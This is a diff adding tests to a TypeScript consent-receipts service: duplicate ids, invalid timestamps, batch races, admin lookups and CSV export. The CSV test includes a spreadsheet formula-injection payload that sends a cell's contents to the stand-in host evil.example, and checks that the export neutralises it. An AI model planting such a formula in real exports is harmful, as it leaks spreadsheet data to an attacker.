@@ -100,11 +100,15 @@ describe.each(engines)("receipts service on $name", ({ name, available, db }) =>
   it("a replayed id with other content (even another month's created) is 409 and changes nothing", async () => {
     const receipt = receiptFor(hash);
     expect((await post(receipt)).statusCode).toBe(201);
-    const earlier = new Date(Date.now() - 40 * 86_400_000).toISOString();
+    const earlier = Date.now() - 40 * 86_400_000;
     for (const forged of [
       { ...receipt, method: "reject-all", choices: { analytics: false } },
       // Another partition on PostgreSQL: caught by the id, not by the (id, created) key.
-      { ...receipt, created: earlier },
+      {
+        ...receipt,
+        created: new Date(earlier).toISOString(),
+        expires: new Date(earlier + 365 * 86_400_000).toISOString(),
+      },
     ]) {
       const response = await post(forged);
       expect(response.statusCode).toBe(409);
@@ -162,6 +166,81 @@ describe.each(engines)("receipts service on $name", ({ name, available, db }) =>
     const after = (await store.byOriginAndPeriod(ORIGIN, "2000-01-01T00:00:00Z", "2100-01-01T00:00:00Z"))
       .length;
     expect(after).toBe(before);
+  });
+
+  it("a receipt no database can store is refused alone: the valid ones sent with it are stored", async () => {
+    const created = new Date().toISOString();
+    const day = created.slice(0, 10);
+    const bad = [
+      // A leap second matches the schema's date-time, but is no instant (Date.parse: NaN).
+      { expires: `${Number(day.slice(0, 4)) + 1}-06-30T23:59:60Z` },
+      { created: `${day}T23:59:60Z` },
+      { expires: "0000-01-01T00:00:00Z" },
+      { expires: new Date(Date.now() - 1000).toISOString() },
+      { expires: new Date(Date.now() + 10 * 365 * 86_400_000).toISOString() },
+      { manifestVersion: "a\u0000b" },
+      { widgetVersion: "\ud800" },
+      { choices: { "\udfffx": true } },
+      { origin: "HTTPS://school.kz" },
+      { origin: `${ORIGIN}/path?q=1` },
+    ];
+    const good = Array.from({ length: 4 }, () => receiptFor(hash));
+    // All at once, so they share the group commit's batches.
+    const responses = await Promise.all([
+      ...good.map((receipt) => post(receipt)),
+      ...bad.map((overrides) => post(receiptFor(hash, overrides))),
+    ]);
+    expect(responses.map((response) => response.statusCode)).toEqual([
+      ...good.map(() => 201),
+      ...bad.map(() => 422),
+    ]);
+    for (const receipt of good) expect((await store.byId(receipt.receiptId))?.receipt).toEqual(receipt);
+  });
+
+  it("the same id sent twice at once, in two months, is stored once (no race between batches)", async () => {
+    const lastMonth = new Date(Date.now() - 35 * 86_400_000).toISOString();
+    for (let round = 0; round < 20; round++) {
+      const receipt = receiptFor(hash) as unknown as ConsentReceipt;
+      const other = { ...receipt, created: lastMonth, method: "reject-all" } as ConsentReceipt;
+      const at = new Date().toISOString();
+      const outcomes = (
+        await Promise.all([
+          store.insertReceipts([{ receipt, receivedAt: at }]),
+          store.insertReceipts([{ receipt: other, receivedAt: at }]),
+        ])
+      ).flat();
+      expect(outcomes.sort()).toEqual(["conflict", "stored"]);
+      const rows = await store.byOriginAndPeriod(ORIGIN, "2000-01-01T00:00:00Z", "2100-01-01T00:00:00Z");
+      expect(rows.filter((row) => row.receipt.receiptId === receipt.receiptId)).toHaveLength(1);
+    }
+  });
+
+  it("exports in CSV with spreadsheet formulas neutralised", async () => {
+    const receipt = receiptFor(hash, {
+      manifestVersion: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+      widgetVersion: "@SUM(1+1)",
+    });
+    expect((await post(receipt)).statusCode).toBe(201);
+    const csv = await app.inject({
+      url: `/admin/receipts/${receipt.receiptId}?format=csv`,
+      headers: { authorization: `Bearer ${TOKEN}` },
+    });
+    const cells = csv.body.split("\r\n")[1] ?? "";
+    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
+    expect(cells).toContain(",'@SUM(1+1),");
+    expect(cells).not.toMatch(/(^|,)[=@]/);
+  });
+
+  it("admin lookups that are not receipt ids or dates get 4xx, not a database error", async () => {
+    const headers = { authorization: `Bearer ${TOKEN}` };
+    expect((await app.inject({ url: "/admin/receipts/not-a-uuid", headers })).statusCode).toBe(404);
+    const period = (to: string) =>
+      app.inject({
+        url: `/admin/receipts?origin=${encodeURIComponent(ORIGIN)}&from=2000-01-01&to=${to}`,
+        headers,
+      });
+    expect((await period("99999-01-01")).statusCode).toBe(400);
+    expect((await period("2100-01-01")).statusCode).toBe(200);
   });
 
   it("never stores the visitor's IP address", async () => {
